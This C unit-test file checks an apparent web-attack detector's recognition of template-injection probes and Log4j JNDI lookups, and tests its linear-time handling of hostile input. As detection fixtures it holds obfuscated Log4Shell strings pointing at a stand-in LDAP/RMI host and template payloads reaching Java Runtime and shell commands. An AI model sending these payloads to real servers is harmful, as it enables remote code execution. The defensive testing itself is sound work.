/* Templates and Log4j lookups: signals in their context and the price of hostile input. The lists
 * of attacks and look-alikes are in tests/corpus/code. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <time.h>

#include "base/buf.h"
#include "engine/scan.h"
#include "engine/value.h"

static struct mln_findings detect(struct mln_sv s)
{
    struct mln_view v = {.p = (const uint8_t *)s.p, .n = (uint32_t)s.len};
    struct mln_budget budget = {.steps_left = (uint64_t)s.len * 64 + 1024};
    struct mln_detect_ctx ctx = {.loc = MLN_LOC_QUERY, .name = MLN_SV("q"), .budget = &budget};
    struct mln_findings f;

    v.classes = mln_byte_classes(s);
    mln_findings_clear(&f);
    mln_detect_template(&v, &ctx, &f);
    assert_false(budget.exhausted);
    return f;
}

static void check_signal(const char *value, enum mln_signal signal, bool expected)
{
    struct mln_findings f = detect(mln_sv_str(value));

    if (mln_findings_has(&f, signal) != expected)
        fail_msg("%s %s: %s", mln_signal_info(signal)->name, expected ? "missing" : "reported",
                 value);
}

static void test_arithmetic_needs_constants_and_an_operator(void **state)
{
    (void)state;
    check_signal("a {{7*7}} b c d e f", MLN_SIG_TEMPLATE_ARITHMETIC, true);
    check_signal("a {{'7'*7}} b c d e", MLN_SIG_TEMPLATE_ARITHMETIC, true);
    check_signal("<%= 3 + 4 %>", MLN_SIG_TEMPLATE_ARITHMETIC, true);
    check_signal("{{x*7}}", MLN_SIG_TEMPLATE_ARITHMETIC, false);
    check_signal("{{77}}", MLN_SIG_TEMPLATE_ARITHMETIC, false);
    check_signal("{{10-3}}", MLN_SIG_TEMPLATE_ARITHMETIC, true);
    check_signal("on pages {{10-13}} of it", MLN_SIG_TEMPLATE_ARITHMETIC, false);
    check_signal("on pages {{10-13}} of it", MLN_SIG_TEMPLATE_ARITHMETIC_SOFT, true);
}

static void test_objects_count_within_delimiters_only(void **state)
{
    (void)state;
    check_signal("{{x.__class__}}", MLN_SIG_TEMPLATE_OBJECT, true);
    check_signal("x.__class__ {{y}}", MLN_SIG_TEMPLATE_OBJECT, false);
    check_signal("{{my_config.ini}}", MLN_SIG_TEMPLATE_OBJECT, false);
    check_signal("<%= `id` %>", MLN_SIG_TEMPLATE_OBJECT, true);
    check_signal("{{config}}", MLN_SIG_TEMPLATE_GLOBAL, true);
    check_signal("the file of {{config}} is in /etc", MLN_SIG_TEMPLATE_GLOBAL, false);
    check_signal("{{ user.name }}", MLN_SIG_TEMPLATE_CALL, false);
    check_signal("{{ user.name() }}", MLN_SIG_TEMPLATE_CALL, true);
}

static void test_lookups_are_evaluated_from_the_inside(void **state)
{
    (void)state;
    check_signal("${${::-j}${lower:N}${env:X:-d}${date:'i'}:ldap://h}", MLN_SIG_CODE_LOG4J_LOOKUP,
                 true);
    check_signal("${${::-${::-$${::-j}}}ndi:rmi://h}", MLN_SIG_CODE_LOG4J_LOOKUP, true);
    check_signal("${a}}${${::-j}ndi:rmi://h}", MLN_SIG_CODE_LOG4J_LOOKUP, true);
    check_signal("${jnd${upper:\xc4\xb1}:rmi://h}", MLN_SIG_CODE_LOG4J_LOOKUP, true);
    check_signal("${env:HOME} jndi:rmi://h", MLN_SIG_CODE_LOG4J_LOOKUP, false);
    check_signal("${date:yyyy}", MLN_SIG_CODE_LOG4J_LOOKUP, false);
    check_signal("${${a:-b}${c:-d}${e:-f}${g:-h}}", MLN_SIG_CODE_LOG4J_NESTED, true);
    check_signal("${a:-b}", MLN_SIG_CODE_LOG4J_NESTED, false);
}

/* A lookup at the end of a long value, hidden or plain, behind lookups that mean nothing. */
static void test_lookups_are_found_at_any_depth_of_a_value(void **state)
{
    static const char *const tails[] = {"${jndi:ldap://h/a}", "${${lower:j}ndi:ldap://h/a}"};

    (void)state;
    for (size_t k = 0; k < MLN_ARRAY_LEN(tails); k++)
        for (size_t pad = 0; pad < 700; pad += 37) {
            struct mln_buf b = {0};
            mln_buf_add_str(&b, "${env:A}");
            while (b.len < pad)
                mln_buf_add_str(&b, "x");
            mln_buf_add_str(&b, tails[k]);
            struct mln_findings f = detect(mln_buf_sv(&b));
            assert_true(mln_findings_has(&f, MLN_SIG_CODE_LOG4J_LOOKUP));
            mln_buf_done(&b);
        }
}

/* Bounds are on work, not on counts. */
static void test_nothing_hides_behind_harmless_repetition(void **state)
{
    static const struct {
        const char *unit, *attack;
    } rows[] = {
        {"{{x}} ", "{{7*7}}"},
        {"${x} ", "${T(java.lang.Runtime)}"},
        {"{{", "{{x.__class__}}"},
        {"${x} ", "${${lower:j}ndi:ldap://h/a}"},
        {"${a:-${b}} ", "${${lower:j}ndi:ldap://h/a}"},
    };
    enum { COUNT = 200 };

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(rows); i++) {
        struct mln_buf b = {0};
        for (unsigned k = 0; k < COUNT; k++)
            mln_buf_add_str(&b, rows[i].unit);
        mln_buf_add_str(&b, rows[i].attack);
        struct mln_findings f = detect(mln_buf_sv(&b));
        mln_buf_done(&b);
        if (mln_findings_points(&f, MLN_PROT_CODE) < 30)
            fail_msg("%d points: %s", mln_findings_points(&f, MLN_PROT_CODE), rows[i].attack);
    }
}

/* Openers without an end are not read forever, and that is said. */
static void test_a_flood_of_openers_is_a_signal(void **state)
{
    struct mln_buf b = {0};

    (void)state;
    for (unsigned k = 0; k < 400; k++)
        mln_buf_add_str(&b, "{{a");
    struct mln_findings f = detect(mln_buf_sv(&b));
    mln_buf_done(&b);
    assert_true(mln_findings_has(&f, MLN_SIG_TEMPLATE_PROBE));
}

static void test_time_is_linear_in_hostile_input(void **state)
{
    static const char *const units[] = {
        "{{",    "${",        "#{",   "<%", "{{a", "${a}",          "${${", "}",
        "${::-", "{{config.", "{{7*", "@(", "[[",  "{{__class__}}", "$$"};
    enum { SMALL = 6000, FACTOR = 10, SLACK = 30 };

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(units); i++) {
        double took[2];
        for (int k = 0; k < 2; k++) {
            struct mln_buf b = {0};
            struct timespec from, to;
            while (b.len < (size_t)(k ? SMALL * FACTOR : SMALL))
                mln_buf_add_str(&b, units[i]);
            (void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &from);
            (void)detect(mln_buf_sv(&b));
            (void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &to);
            took[k] =
                (double)(to.tv_sec - from.tv_sec) * 1e6 + (double)(to.tv_nsec - from.tv_nsec) / 1e3;
            mln_buf_done(&b);
        }
        if (took[1] > took[0] * SLACK + 2000)
            fail_msg("%s: %.0f us, then %.0f us", units[i], took[0], took[1]);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_arithmetic_needs_constants_and_an_operator),
        cmocka_unit_test(test_objects_count_within_delimiters_only),
        cmocka_unit_test(test_lookups_are_evaluated_from_the_inside),
        cmocka_unit_test(test_lookups_are_found_at_any_depth_of_a_value),
        cmocka_unit_test(test_nothing_hides_behind_harmless_repetition),
        cmocka_unit_test(test_a_flood_of_openers_is_a_signal),
        cmocka_unit_test(test_time_is_linear_in_hostile_input),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
